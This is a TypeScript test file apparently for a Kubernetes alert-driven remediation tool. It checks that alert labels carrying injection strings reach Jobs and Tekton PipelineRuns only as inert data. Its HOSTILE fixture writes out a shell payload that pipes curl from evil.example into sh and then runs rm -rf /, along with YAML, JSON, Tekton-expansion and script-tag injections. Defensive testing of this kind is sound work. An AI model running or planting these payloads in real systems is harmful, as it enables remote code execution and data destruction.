/**
 * Invariant 7 end to end, from an alert to what a node would run: label and annotation values
 * carrying shell, YAML, JSON and Tekton-parameter injections travel only as data. Rendered into
 * the run's inputs verbatim; in the Job only inside the ACTION_INPUTS JSON; in the PipelineRun
 * only inside the inputs param, with Tekton's `$(` made inert. Nowhere a command, an argument,
 * a script, a name or a label.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  workflowExecutionSchema,
  type WorkflowExecution,
} from '../../../src/api/workflow-execution.ts';
import { renderAlertRun } from '../../../src/alerts/render-alert-run.ts';
import { buildActionExecution } from '../../../src/backends/jobs/build-action-execution.ts';
import { buildJob } from '../../../src/backends/jobs/build-job.ts';
import { buildPipelineRun } from '../../../src/backends/tekton/build-pipeline-run.ts';
import { makeTemplate } from '../../fixtures/alert-templates.ts';

const DIGEST = `sha256:${'a'.repeat(64)}`;
const HOSTILE = {
  shell: '$(curl -s http://evil.example/x | sh); rm -rf / `id` && echo pwned',
  yaml: 'ok\n- evil: true\nkind: ClusterRoleBinding\n---\napiVersion: v1',
  json: '","injected":true,"replicas":"999',
  tekton: '$(params.actionImage) $(context.taskRun.name) $(workspaces.workspace.path)',
  quotes: `'"\\\u0000\u2028<script>alert(1)</script>`,
};

function renderedRun(): WorkflowExecution {
  const template = makeTemplate('hostile', {
    steps: [
      {
        name: 'act',
        actionType: 'kubernetes/restart',
        image: `registry.local/restart@${DIGEST}`,
        inputs: {
          shell: '{{ labels.shell }}',
          yaml: '{{ labels.yaml }}',
          json: '{{ labels.json }}',
          tekton: '{{ annotations.tekton }}',
          quotes: 'prefix {{ labels.quotes }} suffix',
        },
      },
    ],
  });
  const rendered = renderAlertRun({
    template,
    alert: {
      status: 'firing',
      fingerprint: '0123456789abcdef',
      labels: {
        alertname: 'PodCrashLooping',
        shell: HOSTILE.shell,
        yaml: HOSTILE.yaml,
        json: HOSTILE.json,
        quotes: HOSTILE.quotes,
      },
      annotations: { tekton: HOSTILE.tekton },
      startsAt: '2026-11-27T10:00:00.000Z',
    },
    target: 'default/Deployment/web',
    name: 'hostile-run',
  });
  assert.ok(rendered.ok, rendered.ok ? '' : rendered.reason);
  return workflowExecutionSchema.parse({
    ...rendered.run,
    metadata: { ...rendered.run.metadata, uid: 'run-uid' },
  });
}

const expectedInputs = {
  shell: HOSTILE.shell,
  yaml: HOSTILE.yaml,
  json: HOSTILE.json,
  tekton: HOSTILE.tekton,
  quotes: `prefix ${HOSTILE.quotes} suffix`,
};

/** Every string in a value, with the path to it. */
function stringsOf(value: unknown, path = ''): [string, string][] {
  if (typeof value === 'string') return [[path, value]];
  if (Array.isArray(value))
    return value.flatMap((item, index) => stringsOf(item, `${path}[${String(index)}]`));
  if (value !== null && typeof value === 'object')
    return Object.entries(value).flatMap(([key, item]) => stringsOf(item, `${path}.${key}`));
  return [];
}

const FRAGMENTS = ['curl -s', 'evil: true', '"injected"', 'context.taskRun', '<script>'];
const carriesHostile = (text: string): boolean =>
  FRAGMENTS.some((fragment) => text.includes(fragment));

describe('alert labels carrying injections', () => {
  const run = renderedRun();

  it('render into the run’s inputs verbatim, as JSON strings', () => {
    assert.deepEqual(run.spec.steps[0]?.inputs, expectedInputs);
  });

  it('reach the Job only inside the ACTION_INPUTS JSON', () => {
    const step = run.spec.steps[0];
    assert.ok(step);
    const action = buildActionExecution(
      run,
      {
        type: 'createAttempt',
        step: step.name,
        attempt: 1,
        name: 'hostile-run-act-1',
        actionType: step.actionType,
        image: step.image,
        inputs: step.inputs,
        usesWorkspace: false,
      },
      {},
    );
    const job = buildJob(action, {
      digest: DIGEST,
      ttlSecondsAfterFinished: 60,
      defaultServiceAccountName: 'kubernaut-action',
    });
    const container = job.spec?.template.spec?.containers[0];
    assert.equal(container?.command, undefined, 'the image’s own entrypoint runs');
    assert.equal(container?.args, undefined);
    const carrying = stringsOf(job).filter(([, text]) => carriesHostile(text));
    assert.deepEqual(
      carrying.map(([path]) => path),
      ['.spec.template.spec.containers[0].env[0].value'],
    );
    assert.equal(container?.env?.[0]?.name, 'ACTION_INPUTS');
    assert.deepEqual(JSON.parse(container?.env?.[0]?.value ?? ''), expectedInputs);
  });

  it('reach the PipelineRun only inside the inputs param, with no `$(` for Tekton to expand', () => {
    const pipelineRun = buildPipelineRun(run, {
      workspace: { size: '1Gi' },
      serviceAccountName: 'kubernaut-action',
    });
    const carrying = stringsOf(pipelineRun).filter(([, text]) => carriesHostile(text));
    assert.equal(carrying.length, 1, JSON.stringify(carrying.map(([path]) => path)));
    const [path, text] = carrying[0] ?? ['', ''];
    assert.match(path, /\.pipelineSpec\.tasks\[0\]\.params\[\d+\]\.value$/);
    assert.ok(!text.includes('$('), 'Tekton substitutes nothing in it');
    assert.deepEqual(JSON.parse(text), expectedInputs);
    assert.doesNotMatch(JSON.stringify(pipelineRun), /"script"/);
  });
});
